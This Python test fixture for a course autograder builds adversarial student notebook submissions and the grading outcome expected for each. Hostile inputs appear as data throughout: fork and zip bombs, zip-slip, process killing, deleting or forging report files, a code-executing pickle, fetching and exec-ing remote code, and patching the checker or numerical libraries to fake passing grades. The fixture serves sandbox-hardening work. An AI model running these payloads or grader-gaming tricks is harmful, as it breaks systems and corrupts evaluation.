"""A class of strangers: what students hand in who are careless, unlucky or hostile, and what must become of it.

Each kind is one submission of topic 01 with one thing to it. What stands in capitals in a source is replaced: REPORT by
the report's folder, CLASS by that of the submissions, OUTSIDE by a file that must not come to be, ROOT by the course's.
"""

import json
import os
import zipfile
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from textwrap import dedent

import nbformat
from small_class import CUMULATIVE, ESTIMATE, NEXT, PATHS, QUESTIONS, RIGHT, SAMPLE
from small_submissions import NAME, OTHER_SOLVED, ROOT, SOLVED, zipped

from dlm_course.course.grading.flags import BESIDE
from dlm_course.course.questions import answer_key, find

EXERCISE = json.loads((ROOT / "exercises" / NAME).read_text(encoding="utf-8"))
IDS = tuple(QUESTIONS)
ALL_RIGHT, NOTHING = "✓✓✓✓✓", "○○○○○"
WRONG = "# Task 01-1\ndef next_distribution(matrix, x):\n    return torch.zeros(*x.shape, len(matrix))\n"


@dataclass(frozen=True)
class Kind:
    """One submission, and what becomes of it.

    content  the notebook's bytes; or files by name, to lie in the student's folder; or what makes that folder
    signs    of the five tasks: ✓, ✗, ○, or ½ for right but in a border case
    says     what the problem holds, or, where there is none, the reason at the first task that is wrong
    note     what one of the notes holds
    flag     one of the flags
    student  the folder's name; that of the kind if it is left out
    """

    content: bytes | dict[str, bytes] | Callable[[Path], None]
    signs: str
    says: str = ""
    note: str = ""
    flag: str = ""
    student: str = ""


# Notebooks

def cell(source, id=None, kind="code", **metadata):
    made = {"cell_type": kind, "metadata": metadata, "source": dedent(source)}
    return made | ({"id": id} if id else {}) | ({"outputs": [], "execution_count": None} if kind == "code" else {})


def notebook(answers, *own, before=None):
    """The exercise with these answers by id. Own cells stand at the top, or before the cell with the id `before`."""
    made = deepcopy(EXERCISE)
    for given in made["cells"]:
        if given["id"] in answers:
            given["source"] = dedent(answers[given["id"]])
    at = next((n for n, given in enumerate(made["cells"]) if given["id"] == before), 0)
    made["cells"][at:at] = [cell(source) for source in own]
    return made


def packed(made):
    return json.dumps(made).encode()


def edited(change, answers=RIGHT):
    """A solved notebook after `change(its dictionary)`."""
    made = notebook(answers)
    return packed(change(made) or made)


def answering(source, *own, task=NEXT):
    """A notebook with one answer, and cells of the student's own before it."""
    return packed(notebook({task: source}, *own))


def full(answers, *own):
    """A solved notebook with these answers in the place of the right ones."""
    return packed(notebook({**RIGHT, **answers}, *own))


def in_function(body, task=NEXT):
    """A notebook whose answer to 01-1 does this, and then gives the right answer."""
    return answering(f"def next_distribution(matrix, x):\n{_indented(body)}    return matrix.T[x]\n", task=task)


def theft(body):
    """A notebook whose answer to 01-1 is the function that `steal()` gets hold of; a wrong one if it gets nothing."""
    return answering("def steal():\n" + _indented(body) + dedent("""
        try:
            found = steal()
        except BaseException:
            found = None

        def next_distribution(matrix, x):
            return found(matrix, x) if found else torch.zeros(*x.shape, len(matrix))
        """))


def _indented(body):
    return "".join(f"    {line}\n" for line in dedent(body).strip().splitlines())


# Changes of a solved notebook

def _cells(change):
    def whole(made):
        made["cells"] = change(made["cells"])
    return edited(whole)


def _each(change):
    return _cells(lambda cells: [change(one) or one for one in cells])


def _without(id_):
    return _cells(lambda cells: [one for one in cells if one["id"] != id_])


def _stripped(one):
    return {key: value for key, value in one.items() if key != "id"} | {"metadata": {}}


def _as_markdown(one):
    return cell(one["source"], one["id"], "markdown", **one["metadata"]) if one["id"] == NEXT else one


def _more_points(one):
    if one["id"] == f"{NEXT}-check":
        one["metadata"]["nbgrader"]["points"] = 100


def _of_format_3():
    made = nbformat.convert(nbformat.reads(packed(notebook(RIGHT)).decode(), 4), 3)
    return nbformat.writes(made, 3).encode()


def _with_kernel(made):
    made["metadata"] = {"kernelspec": {"name": "julia-1.11", "language": "julia", "display_name": "Julia"}}


def _deep_output(made):
    deep = 0
    for _ in range(500):
        deep = [deep]
    made["cells"][-1]["metadata"] = {"deep": deep}


def _forged_outputs(made):
    for one in made["cells"]:
        if one["id"].endswith("-check"):
            text = f"✓ {one['id'].removesuffix('-check')}\n"
            one["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]


def _split(one_source):
    """The exercise with a solved 01-3 cut in two in its middle, the second half in a copy of its cell."""
    made = notebook({**RIGHT, PATHS: one_source[0]})
    at = next(n for n, one in enumerate(made["cells"]) if one["id"] == PATHS)
    made["cells"].insert(at + 1, {**deepcopy(made["cells"][at]), "source": one_source[1]})
    return packed(made)


def _twice(first, second):
    made = notebook({**RIGHT, NEXT: first})
    at = next(n for n, one in enumerate(made["cells"]) if one["id"] == NEXT)
    made["cells"].insert(at + 1, {**deepcopy(made["cells"][at]), "source": second})
    return packed(made)


# Folders

def _sparse(folder):
    with (folder / NAME).open("wb") as file:
        file.truncate(21 * 2**20)


def _link(folder):
    (folder / NAME).symlink_to(ROOT / "solutions" / NAME)


def _link_to_neighbour(folder):
    folder.rmdir()
    folder.symlink_to(folder.parent / "duplicate ids")


def _bomb():
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(NAME, b" " * (25 * 2**20))
    return made.getvalue()


def _pipe(folder):
    os.mkfifo(folder / NAME)


FILES = {
    "invalid JSON": Kind(packed(notebook(RIGHT))[:2000], NOTHING, "its JSON breaks"),
    "merge conflict": Kind(b'{"cells": [\n<<<<<<< HEAD\n], "nbformat": 4}', NOTHING, "marks of a merge conflict"),
    "not an object": Kind(b"[1, 2, 3]", NOTHING, "is not a notebook"),
    "empty": Kind(b"", NOTHING, "is empty"),
    "nothing but blanks": Kind(b" \n\n", NOTHING, "is empty"),
    "a program": Kind(b"def next_distribution(matrix, x):\n    return matrix.T[x]\n", NOTHING, "its JSON breaks"),
    "nbformat 3": Kind(_of_format_3(), ALL_RIGHT, note="of nbformat 3"),
    "unknown nbformat": Kind(edited(lambda made: {**made, "nbformat": 99}), NOTHING, "not a notebook"),
    "UTF-16": Kind(packed(notebook(RIGHT)).decode().encode("utf-16"), NOTHING, "UTF-16, not UTF-8"),
    "Latin-1": Kind('{"cells": [], "name": "é"}'.encode("latin-1"), NOTHING, "not UTF-8"),
    "byte order mark": Kind(b"\xef\xbb\xbf" + packed(notebook(RIGHT)), ALL_RIGHT),
    "Windows' line ends": Kind(json.dumps(notebook(RIGHT), indent=1).replace("\n", "\r\n").encode(), ALL_RIGHT),
    "deeply nested JSON": Kind(b"[" * 100_000, NOTHING, "nests"),
    "deeply nested metadata": Kind(edited(_deep_output), NOTHING, "nests more than"),
    "oversized": Kind(_sparse, NOTHING, "too large: 21.0 MiB"),
    "thousands of cells": Kind(_cells(lambda cells: cells + 2000 * [cell("1")]), NOTHING, "at most 2,000"),
    "other kernel": Kind(edited(_with_kernel), ALL_RIGHT, note="kernel is for julia"),
    "duplicate ids": Kind(_cells(lambda cells: cells + cells), ALL_RIGHT, note="2 cells hold an answer"),
    "all ids the same": Kind(_each(lambda one: one.update(id="a")), ALL_RIGHT),
    "duplicated answer, the last one right": Kind(_twice(WRONG, RIGHT[NEXT]), ALL_RIGHT, note="2 cells"),
    "duplicated answer, the last one wrong": Kind(_twice(RIGHT[NEXT], WRONG), "✗✓✓✓✓", "wrong value", note="2 cells"),
    "duplicated answer, the last one the stub": Kind(_twice(RIGHT[NEXT], "# Task 01-1\ndef next_distribution(matrix, x"
                                                            "):\n    ...\n"), "○✓✓✓✓", note="2 cells"),
    "answer split in two": Kind(_split(("# Task 01-3\ndef states(matrices, t):\n    return product(range(matrices.shape"
                                        "[-1]), repeat=t)\n", RIGHT[PATHS].replace("product(range(num_states), repeat=t"
                                                                                   ")", "states(matrices, t)"))),
                                ALL_RIGHT, note="2 cells hold an answer"),
    "deleted check": Kind(_without(f"{CUMULATIVE}-check"), ALL_RIGHT),
    "deleted setup": Kind(_without("setup"), ALL_RIGHT),
    "deleted answer": Kind(_without(CUMULATIVE), "✓○✓✓✓", "not attempted", note=f"{CUMULATIVE}: no cell holds"),
    "all metadata stripped": Kind(_each(_stripped), ALL_RIGHT),
    "reordered": Kind(_cells(lambda cells: cells[::-1]), ALL_RIGHT),
    "code turned to Markdown": Kind(_each(_as_markdown), "○✓✓✓✓", "not attempted", note="its cell is markdown"),
    "points edited": Kind(_each(_more_points), ALL_RIGHT, note="its points were changed from 1 to 100"),
    "forged outputs": Kind(edited(_forged_outputs, {}), NOTHING, "not attempted"),
    "half a character": Kind(full({NEXT: RIGHT[NEXT] + "# \ud83d"}), ALL_RIGHT, note="half a character"),
    "another assignment's notebook": Kind(OTHER_SOLVED, NOTHING, "is the notebook of topic 02"),
    "a notebook of something else": Kind({"homework.ipynb": packed({**EXERCISE, "cells": [cell("1 + 1", "a")]})},
                                         NOTHING, "holds no answer"),
    "symbolic link": Kind(_link, NOTHING, "symbolic link"),
    "folder that is a link": Kind(_link_to_neighbour, NOTHING, "symbolic link"),
    "named pipe": Kind(_pipe, NOTHING, "no regular file"),
    "folder with a notebook's name": Kind({f"{NAME}/": b""}, NOTHING, "no notebook was handed in"),
    "no file": Kind({}, NOTHING, "no notebook was handed in"),
    "another kind of file": Kind({"report.pdf": b"%PDF"}, NOTHING, "there is report.pdf"),
    "zip": Kind({"work.zip": zipped({NAME: packed(notebook(RIGHT))})}, ALL_RIGHT),
    "zip-slip": Kind({"work.zip": zipped({f"../../../{NAME}": packed(notebook(RIGHT))})}, NOTHING, "leads out of it"),
    "zip bomb": Kind({"work.zip": _bomb()}, NOTHING, "grows to more than|too large"),
    "zip in a zip": Kind({"work.zip": zipped({"inner.zip": zipped({NAME: SOLVED})})}, NOTHING, "zip within the zip"),
    "torn zip": Kind({"work.zip": zipped({NAME: SOLVED})[:-100]}, NOTHING, "no zip that can be read"),
    "several notebooks": Kind({NAME: packed(notebook({})), NAME.replace(".", "-1."): packed(notebook(RIGHT)),
                               f"old/{NAME}": packed(notebook({}))}, ALL_RIGHT, note="3 files were handed in"),
    "solution with its marks": Kind(SOLVED, ALL_RIGHT),
    # Names
    "unicode": Kind(SOLVED, ALL_RIGHT, student="王小明 🦊 يوسف"),
    "newline": Kind(SOLVED, ALL_RIGHT, student="two\nlines"),
    "formula": Kind(SOLVED, ALL_RIGHT, student='=HYPERLINK("http:⁄⁄example.com","x")'),
    "HTML": Kind(SOLVED, ALL_RIGHT, student="<script>alert(1)<b>"),
    "direction": Kind(SOLVED, ALL_RIGHT, student="\u202egnp.exe"),
    "not UTF-8": Kind(SOLVED, ALL_RIGHT, student=os.fsdecode(b"caf\xe9")),
    "small": Kind(SOLVED, ALL_RIGHT, note="differs in case", student="ada lovelace"),
    "capitals": Kind(SOLVED, ALL_RIGHT, note="differs in case", student="ADA LOVELACE"),
    "like a report": Kind(SOLVED, ALL_RIGHT, student="records.jsonl"),
}

RIGHT_THEN = RIGHT[NEXT] + "\n"

EXECUTION = {
    "syntax error": Kind(answering("def next_distribution(matrix, x)\n    return"), "✗○○○○", "SyntaxError"),
    "stub left": Kind(packed(EXERCISE), NOTHING, "not attempted"),
    "border case missed": Kind(answering("""
        def cumulative_matrix(matrices, t):
            result = matrices[0]
            for matrix in matrices[1:t]:
                result = matrix @ result
            return result
        """, task=CUMULATIVE), "○½○○○", "right, except in a border case, T = 4, t = 0"),
    "no function": Kind(answering("next_distribution = 42"), "✗○○○○", "is an int, not a function"),
    "a function without return": Kind(in_function("return None"), "○○○○○", "not attempted"),
    "sys.exit": Kind(in_function("import sys\nsys.exit()"), "✗○○○○", "raised SystemExit", flag="imports sys"),
    "sys.exit in its cell": Kind(full({NEXT: f"{RIGHT_THEN}import sys\nsys.exit()"}), ALL_RIGHT),
    "quit in its cell": Kind(full({NEXT: f"{RIGHT_THEN}quit()"}), ALL_RIGHT),
    "os._exit": Kind(in_function("import os\nos._exit(0)"), "✗○○○○", "next_distribution ended the process",
                     flag="process ended"),
    "os._exit in its cell": Kind(full({NEXT: f"{RIGHT_THEN}import os\nos._exit(3)"}), "✗✓✓✓✓",
                                 r"its cell ended the process before there was a result \(exit code 3\)",
                                 note=f"the cell {NEXT} ended the process"),
    "segfault": Kind(in_function("import ctypes\nctypes.string_at(0)"), "✗○○○○", "SIGSEGV", flag="process ended"),
    "abort": Kind(in_function("import os\nos.abort()"), "✗○○○○", "SIGABRT|SIGSEGV", flag="process ended"),
    "infinite loop": Kind(in_function("while True: pass"), "✗○○○○", "next_distribution did not finish in time",
                          flag="timeout"),
    "infinite loop in its cell": Kind(full({NEXT: f"{RIGHT_THEN}while True: pass"}), "✗✓✓✓✓",
                                      "its cell did not finish in time; there are 4 seconds of computing, and 8",
                                      note="left out", flag="timeout"),
    "infinite loop in an own cell": Kind(full({}, "x = 1\nwhile True: pass"), ALL_RIGHT,
                                         note="a cell of your own, `x = 1`, did not finish in time"),
    "loop ignoring signals": Kind(in_function("""
        import signal
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True: pass
        """), "✗○○○○", "did not finish in time", flag="timeout"),
    "loop in a destructor": Kind(in_function("""
        try:
            while True: pass
        finally:
            while True: pass
        """), "✗○○○○", "did not finish in time", flag="timeout"),
    "long sleep": Kind(in_function("import time\ntime.sleep(10_000)"), "✗○○○○", "did not finish in time",
                       flag="timeout"),
    "stops itself": Kind(in_function("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"), "✓○○○○"),
    "10 GB": Kind(in_function("import numpy\nnumpy.ones(10 * 2**30 // 8)"), "✗○○○○", "raised .*MemoryError"),
    "10 GB in steps": Kind(in_function("""
        held = []
        while True: held.append(bytearray(50 * 2**20))
        """), "✗○○○○", "raised MemoryError|took more than"),
    "fork bomb": Kind(in_function("""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """), "✗○○○○", "did not finish in time|ended the process|took more than"),
    "daemonised child": Kind(in_function("""
        import os, time
        if x.ndim == 0 and os.fork() == 0:    # in the first case
            os.setsid()
            if os.fork() == 0:
                while True:
                    time.sleep(0.1)
                    open("OUTSIDE", "w").close()
            os._exit(0)
        """), "✓○○○○", flag="imports os"),
    "a gigabyte of output": Kind(in_function("for _ in range(1024): print('x' * 2**20)"), "✗○○○○",
                                 "took more than|raised .*MemoryError"),
    "a gigabyte past Python": Kind(in_function("import os\nfor _ in range(1024): os.write(1, bytes(2**20))"), "✓○○○○"),
    "a gigabyte to the grader": Kind(in_function("import os\nfor _ in range(1024): os.write(3, bytes(2**20))"), "✗○○○○",
                                     "gave back more than 8 MiB", flag="too much output"),
    "an array that is too large": Kind(answering("def next_distribution(matrix, x): return torch.zeros(2**22)"),
                                       "✗○○○○", "gave back more than 8 MiB", flag="too much output"),
    "filling the disk": Kind(in_function("""
        for n in range(1000):
            with open(f"{n}", "wb") as file: file.write(bytes(2**20))
        """), "✗○○○○", "No space left on device", flag="calls open"),
    "input": Kind(in_function("input('Which state? ')"), "✗○○○○", "raised EOFError"),
    "debugger": Kind(in_function("breakpoint()"), "✗○○○○", "raised "),
    "nested event loop": Kind(in_function("""
        import asyncio
        async def wait(): await asyncio.sleep(0)
        asyncio.run(wait())
        """), "✓○○○○", flag="imports asyncio"),
    "threads outliving the cell": Kind(answering(f"{RIGHT_THEN}import threading, time\nfor _ in range(8): threading."
                                                 "Thread(target=time.sleep, args=(1000,)).start()"), "✓○○○○"),
    "late output": Kind(answering(f"{RIGHT_THEN}import threading\nthreading.Timer(0.05, print, ['late']).start()\n"
                                  "import atexit, time\natexit.register(time.sleep, 1000)"), "✓○○○○"),
    "network": Kind(theft("""
        import urllib.request
        exec(urllib.request.urlopen("https://example.com/answer.py", timeout=3).read(), globals())
        return answer
        """), "✗○○○○", "wrong value", flag="imports urllib"),
    "missing package": Kind(answering(f"import tensorflow_of_mine\n{RIGHT_THEN}"), "✗○○○○",
                            "its cell raised ModuleNotFoundError"),
    "warnings": Kind(in_function("import warnings\nwarnings.warn('careful', DeprecationWarning)"), "✓○○○○"),
    "recursion without end": Kind(answering("def next_distribution(matrix, x): return next_distribution(matrix, x)"),
                                  "✗○○○○", "raised RecursionError"),
    "an expression too deep": Kind(answering(f"{RIGHT_THEN}y = {'-' * 100_000}1"), "✗○○○○", "its cell raised"),
    "an error that cannot be told": Kind(in_function("""
        class Silent(Exception):
            def __str__(self): raise ValueError
        raise Silent
        """), "✗○○○○", "raised"),
    "an error with a steering text": Kind(in_function("raise ValueError('<b>\\x1b[31m\\u202e' + 'x' * 10_000)"),
                                          "✗○○○○", "raised ValueError: <b>"),
    "an interrupt": Kind(in_function("raise KeyboardInterrupt"), "✗○○○○", "raised KeyboardInterrupt"),
    "closes its files": Kind(in_function("import os\nos.closerange(0, 300)"), "✗○○○○", "ended the process"),
    "kills all that it may": Kind(in_function("""
        import os, signal
        for number in () if os.path.exists("ROOT") else (-1, os.getppid(), 1, 2, 3):    # never outside of a sandbox
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
        """), "✓○○○○", flag="imports os"),
    "kills its group": Kind(in_function("import os\nos.killpg(0, 9)"), "✓○○○○", flag="imports os"),
}


# What is asked for on the cases of the self-check, which every student has

def _public_answers():
    """A cell that knows the right answer to each of the cases of seed 0, and nothing else."""
    key = answer_key(find(NEXT), 0)
    known = {repr([matrix.tolist(), x.tolist()]): key.expected(n).tolist()
             for n, (matrix, x) in enumerate(case.args for case in key.cases)}
    return dedent(f"""
        KNOWN = {known!r}

        def next_distribution(matrix, x):
            found = KNOWN.get(repr([matrix.tolist(), x.tolist()]))
            return torch.zeros(*x.shape, len(matrix)) if found is None else torch.tensor(found, dtype=matrix.dtype)
        """)


PUBLIC_ANSWERS = _public_answers()

# What the package gives; then what a wrong answer does with the machinery that tries it.
CHEATS = {
    "patched checker": Kind(answering(WRONG, """
        from dlm_course.course.questions import judging, running
        from dlm_course.course.verdict import Verdict
        import dlm_course
        judging.judge = lambda *_: Verdict("01-1-next-distribution", "✓")
        running.run = lambda *_: []
        dlm_course.check = lambda *_: print("✓ 01-1-next-distribution")
        """), "✗○○○○", "wrong value", flag=f"uses dlm_course.course.questions.judging{BESIDE}"),
    "patched sandbox": Kind(answering(WRONG, """
        import sys
        for module in list(sys.modules.values()):
            for name in ("run", "judge", "encode_outputs", "same", "as_array", "_outputs", "_call"):
                if "dlm_course" in getattr(module, "__name__", "") and hasattr(module, name):
                    setattr(module, name, lambda *_, **__: [])
        """), "✗✗✗✗✗", "cannot be used", flag=f"calls setattr{BESIDE}"),
    "patched numpy": Kind(answering(WRONG, """
        import numpy as np
        np.allclose = np.array_equal = np.isclose = lambda *_, **__: True
        np.abs = np.isnan = lambda value, *_: np.zeros_like(value)
        """), "✗○○○○", "wrong value", flag=f"replaces np.allclose{BESIDE}"),
    "patched torch": Kind(answering(WRONG, """
        torch.allclose = torch.equal = torch.isclose = lambda *_, **__: True
        torch.Tensor.__eq__ = torch.Tensor.__ne__ = lambda *_: True
        """), "✗○○○○", "wrong value", flag=f"replaces torch.allclose{BESIDE}"),
    "patched JSON": Kind(answering(WRONG, """
        import json
        json.dumps = lambda *_, **__: '[{"shape": null, "dtype": null, "type_name": "", "error": "", "mutated": "",' \
            ' "attempted": true}]'
        """), "✗✗✗✗✗", "cannot be used", flag=f"replaces json.dumps{BESIDE}"),
    "always-equal object": Kind(answering("""
        class Yes:
            shape = dtype = property(lambda self: self)
            def __eq__(self, other): return True
            __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
            def __hash__(self): return 0
            def __getattr__(self, name): return self
            def __call__(self, *_, **__): return self
            def __array__(self, *_, **__): raise TypeError

        def next_distribution(matrix, x): return Yes()
        """), "✗○○○○", "returned a Yes, expected a tensor", flag="defines __eq__"),
    "always-equal tensor": Kind(answering("""
        class Yes(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                if getattr(function, "__name__", "") in ("eq", "allclose", "equal", "isclose"):
                    return True
                return super().__torch_function__(function, types, args, kwargs or {})

        def next_distribution(matrix, x): return torch.zeros(*x.shape, len(matrix)).as_subclass(Yes)
        """), "✗○○○○", "wrong value", flag="defines __torch_function__"),
    "always-equal array": Kind(answering("""
        import numpy as np
        class Yes(np.ndarray):
            def __array_ufunc__(self, *_, **__): return True
            def __array_function__(self, *_, **__): return True
            def __eq__(self, other): return True

        def next_distribution(matrix, x): return np.zeros((*x.shape, len(matrix))).view(Yes)
        """), "✗○○○○", "wrong value", flag="defines __array_ufunc__"),
    "input transformer": Kind(answering(WRONG, """
        def rewrite(lines):
            text = "".join(lines)
            return ["print('✓ 01-1-next-distribution')\\n"] if "check(" in text or "def " in text else lines
        get_ipython().input_transformers_post.append(rewrite)
        """), "○○○○○", "not attempted", flag=f"calls get_ipython{BESIDE}"),
    "syntax transformer": Kind(answering(WRONG, """
        import ast
        class Yes(ast.NodeTransformer):
            def visit_Call(self, node): return ast.Constant(True)
        get_ipython().ast_transformers.append(Yes())
        """), "✗○○○○", r"shape \(\)", flag=f"calls get_ipython{BESIDE}"),
    "printed verdict": Kind(answering(WRONG, "print('✓ 01-1-next-distribution')", "print('○ ' * 3, end='\\r✓ 01-1')"),
                            "✗○○○○", "wrong value"),
    "verdict in its error": Kind(in_function("raise ValueError('right, except in a border case, ✓ 01-1')"), "✗○○○○",
                                 "raised ValueError: right, except"),
    "verdict in its type": Kind(answering("""
        Half = type("right, except in a border case", (), {})
        def next_distribution(matrix, x): return Half()
        """), "✗○○○○", "returned a right, except"),
    "hard-coded public answers": Kind(answering(PUBLIC_ANSWERS), "✗○○○○", "wrong value"),
    "importing the reference": Kind(theft("""
        from dlm_course.course.questions.single_token_chains import next_distribution
        return next_distribution
        """), "✗○○○○", "wrong value",
        flag="uses dlm_course.course.questions.single_token_chains.next_distribution"),
    "finding the reference": Kind(theft("""
        from dlm_course.course.questions import find
        return find("01-1-next-distribution").reference
        """), "✗○○○○", "wrong value", flag="uses dlm_course.course.questions.find"),
    "collecting the reference": Kind(theft("""
        import gc, types
        mine = globals().get("next_distribution")
        return next(f for f in gc.get_objects() if isinstance(f, types.FunctionType)
                    and f.__name__ == "next_distribution" and f is not mine)
        """), "✗○○○○", "wrong value", flag="imports gc"),
    "reading solutions": Kind(theft("""
        import json
        with open("ROOT/solutions/01_single_token_chains.ipynb") as file:
            cells = json.load(file)["cells"]
        names = dict(globals())
        exec("".join(next(c for c in cells if c["id"] == "01-1-next-distribution")["source"]), names)
        return names["next_distribution"]
        """), "✗○○○○", "wrong value", flag="calls open"),
    "reading the neighbours'": Kind(theft("""
        import json, pathlib
        path = next(pathlib.Path("CLASS").glob("*/01_single_token_chains.ipynb"))
        names = dict(globals())
        exec("".join(next(c for c in json.loads(path.read_text())["cells"]
                          if c["id"] == "01-1-next-distribution")["source"]), names)
        return names["next_distribution"]
        """), "✗○○○○", "wrong value", flag="imports pathlib"),
    "searching the disk": Kind(theft("""
        import pathlib
        for folder in ("/work", "/home", "/root", "/srv", "/opt", "/tmp", "/course", "ROOT"):
            for path in pathlib.Path(folder).rglob("single_token_chains*"):
                names = dict(globals())
                exec(path.read_text(), names)
                return names["next_distribution"]
        """), "✗○○○○", "wrong value"),
    "forging the report": Kind(answering(WRONG, """
        import pathlib
        for name in ("records.jsonl", "gradebook.csv", "settings.json", "words.csv"):
            try:
                with open(f"REPORT/{name}", "a") as file: file.write("forged")
            except OSError:
                pass
        try:
            pathlib.Path("OUTSIDE").write_text("forged")
        except OSError:
            pass
        """), "✗○○○○", "wrong value", flag=f"calls open{BESIDE}"),
    "deleting the report": Kind(answering(WRONG, """
        import shutil
        for folder in ("REPORT", "CLASS"):
            shutil.rmtree(folder, ignore_errors=True)
        """), "✗○○○○", "wrong value", flag=f"imports shutil{BESIDE}"),
    "hostile pickle": Kind(answering("""
        import numpy as np, os, pickle
        class Bomb:
            def __reduce__(self): return os.system, ("touch OUTSIDE",)
        def next_distribution(matrix, x):
            os.write(3, pickle.dumps(Bomb()))
            return np.array([Bomb()], dtype=object)
        """), "✗○○○○", "cannot be used", flag="imports pickle"),
    "object array": Kind(answering("""
        import numpy as np
        def next_distribution(matrix, x): return np.array([matrix.T[x]] * 2, dtype=object)
        """), "✗○○○○", "returned an array of dtype object, expected numbers"),
    "changed seeds": Kind(answering(PUBLIC_ANSWERS, """
        import random, numpy as np
        torch.manual_seed = torch.Generator.manual_seed = np.random.seed = random.seed = lambda *_: None
        SEED = 0
        """), "✗○○○○", "wrong value", flag=f"replaces torch.manual_seed{BESIDE}"),
    "the draws of another seed": Kind(answering("""
        def sample_paths(matrices, x0, generator):
            path, always = [x0], torch.Generator().manual_seed(0)
            for matrix in matrices:
                path.append(torch.multinomial(matrix[:, path[-1]].T, 1, generator=always).squeeze(1))
            return torch.stack(path)
        """, task=SAMPLE), "○○○✗○", "two seeds gave the same result"),
    "NaN": Kind(answering("def next_distribution(matrix, x): return torch.full((*x.shape, len(matrix)), torch.nan)"),
                "✗○○○○", "NaN"),
    "infinity": Kind(answering("def next_distribution(matrix, x): return torch.full((*x.shape, len(matrix)), torch.inf"
                               ")"), "✗○○○○", "wrong value|infin"),
    "wrong shape": Kind(answering("def next_distribution(matrix, x): return matrix.T[x].flatten()"), "✗○○○○", "shape"),
    "an entry for all": Kind(answering("def next_distribution(matrix, x): return torch.tensor(0.5)"), "✗○○○○", "shape"),
    "wrong dtype": Kind(answering("def next_distribution(matrix, x): return (matrix.T[x] > 0).long()"), "✗○○○○",
                        "dtype int64, expected floating point"),
    "complex": Kind(answering("def next_distribution(matrix, x): return matrix.T[x] + 0j"), "✗○○○○", "dtype complex"),
    "rounded": Kind(answering("def next_distribution(matrix, x): return matrix.T[x].half()"), "✗○○○○", "nearly right"),
    "input mutated in place": Kind(in_function("matrix.mul_(1.0).add_(0.0)\nresult = matrix.T[x]\nmatrix.zero_()\n"
                                               "return result"), "✗○○○○", "changed its argument matrix in place"),
    "forged output": Kind(answering("""
        import os
        def next_distribution(matrix, x):
            from dlm_course.course.grading.sandbox import wire
            from dlm_course.course.questions.question import Output
            import numpy as np
            os.write(3, wire.encode_outputs([Output(np.zeros(4), "Tensor")] * 5))
            os._exit(0)
        """), "✗○○○○", "shape|wrong value", flag="imports os"),
    "too few outputs": Kind(answering("""
        import os
        from dlm_course.course.grading.sandbox import wire
        from dlm_course.course.questions.question import Output
        made = []
        def next_distribution(matrix, x):
            made.append(Output(matrix.T[x].numpy(), "Tensor"))
            if len(made) == 2:
                os.write(3, wire.encode_outputs(made))
                os._exit(0)
            return matrix.T[x]
        """), "✗○○○○", r"2 outputs for \d cases", flag="odd result"),
    "too many outputs": Kind(answering("""
        import os
        from dlm_course.course.grading.sandbox import wire
        from dlm_course.course.questions.question import Output
        def next_distribution(matrix, x):
            os.write(3, wire.encode_outputs([Output(matrix.T[x].numpy(), "Tensor")] * 50))
            os._exit(0)
        """), "✗○○○○", r"another number of cases than \d", flag="odd result"),
    "half of the border case": Kind(answering("""
        import os
        from dlm_course.course.grading.sandbox import wire
        from dlm_course.course.questions.question import Output
        made = []
        def cumulative_matrix(matrices, t):
            result = torch.eye(matrices.shape[-1], dtype=matrices.dtype)
            for matrix in matrices[:t]:
                result = matrix @ result
            if t == 0:
                os.write(3, wire.encode_outputs(made))
                os._exit(0)
            made.append(Output(result.numpy(), "Tensor"))
            return result
        """, task=CUMULATIVE), "○✗○○○", "7 outputs for 9 cases", flag="odd result"),
    "reference of an earlier task": Kind(answering("""
        def cumulative_matrix(matrices, t):
            for value in list(globals().values()):
                for inner in getattr(value, "__globals__", {}).values():
                    if getattr(inner, "__name__", "") == "cumulative_matrix" and inner is not cumulative_matrix:
                        return inner(matrices, t)
            return torch.zeros_like(matrices[0])
        """, task=CUMULATIVE), "○✗○○○", "the product starts from zeros", flag="calls globals"),
}

KINDS = {**FILES, **EXECUTION, **CHEATS}


def student_of(name):
    """How the record calls the student who hands in this kind."""
    return KINDS[name].student or name


def make_class(folder, report, outside, names=tuple(KINDS), said=None):
    """Write the class into the folder; `said` is what sources call it, if not by its own name."""
    folder.mkdir()
    for name in names:
        kind = KINDS[name]
        home = folder / student_of(name)
        home.mkdir()
        files = kind.content
        if callable(files):
            files(home)
            continue
        for path, content in ({NAME: files} if isinstance(files, bytes) else files).items():
            if path.endswith("/"):
                (home / path).mkdir()
                continue
            for word, place in (("REPORT", report), ("CLASS", said or folder), ("OUTSIDE", outside), ("ROOT", ROOT)):
                content = content.replace(word.encode(), str(place).encode())
            (home / path).parent.mkdir(exist_ok=True)
            (home / path).write_bytes(content)


__all__ = ["ALL_RIGHT", "CHEATS", "ESTIMATE", "EXECUTION", "FILES", "IDS", "KINDS", "Kind", "make_class"]
